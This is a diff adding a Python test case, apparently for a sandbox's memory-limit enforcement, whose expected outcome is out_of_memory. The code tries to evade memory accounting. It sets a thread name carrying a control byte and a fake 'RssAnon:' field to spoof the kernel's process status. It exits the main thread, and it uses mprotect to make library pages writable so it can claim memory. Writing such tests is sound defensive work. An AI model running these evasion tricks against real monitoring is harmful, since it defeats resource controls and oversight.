@@ -1,0 +1,61 @@
+# outcome: out_of_memory
+# It ends its first thread, of which the kernel tells what a process holds, and takes memory in another.
+import ctypes
+import platform
+import threading
+
+from attempts import got_in, libc
+
+MOST = 320 * 2**20
+READ, WRITE, EXECUTE = 1, 2, 4
+NAME, EXIT = 15, {"x86_64": 60, "aarch64": 93}
+
+
+class Part(ctypes.Structure):
+    _fields_ = [("kind", ctypes.c_uint32), ("flags", ctypes.c_uint32)] + [
+        (name, ctypes.c_uint64) for name in ("offset", "address", "physical", "in_file", "in_memory", "align")
+    ]
+
+
+class Library(ctypes.Structure):
+    _fields_ = [
+        ("base", ctypes.c_void_p), ("name", ctypes.c_char_p), ("parts", ctypes.POINTER(Part)),
+        ("count", ctypes.c_uint16),
+    ]
+
+
+def pieces():
+    found = []
+
+    @ctypes.CFUNCTYPE(ctypes.c_int, ctypes.POINTER(Library), ctypes.c_size_t, ctypes.c_void_p)
+    def each(library, _size, _data):
+        held = library.contents
+        for place in range(held.count):
+            part = held.parts[place]
+            if part.kind == 1 and not part.flags & WRITE:
+                start = ((held.base or 0) + part.address) & ~4095
+                found.append((part.in_memory & ~4095, start, part.flags & 1))
+        return 0
+
+    libc.dl_iterate_phdr(each, None)
+    return sorted(found, reverse=True)
+
+
+def take():
+    written = 0
+    while True:
+        for size, start, code in pieces():
+            rights = READ | WRITE | (EXECUTE if code else 0)
+            libc.mprotect(ctypes.c_void_p(start), ctypes.c_size_t(size), rights)
+            for page in range(start, start + size, 4096):
+                ctypes.memset(page, ctypes.string_at(page, 1)[0], 1)
+                written += 4096
+                if written >= MOST:
+                    got_in(f"{written:,} bytes of memory are its own, beside what it may have")
+
+
+def attack():
+    # What stands in the name must not be taken for a line of its own either.
+    libc.prctl(NAME, b"\x0bRssAnon:x", 0, 0, 0)
+    threading.Thread(target=take).start()
+    libc.syscall(EXIT[platform.machine()], 0)
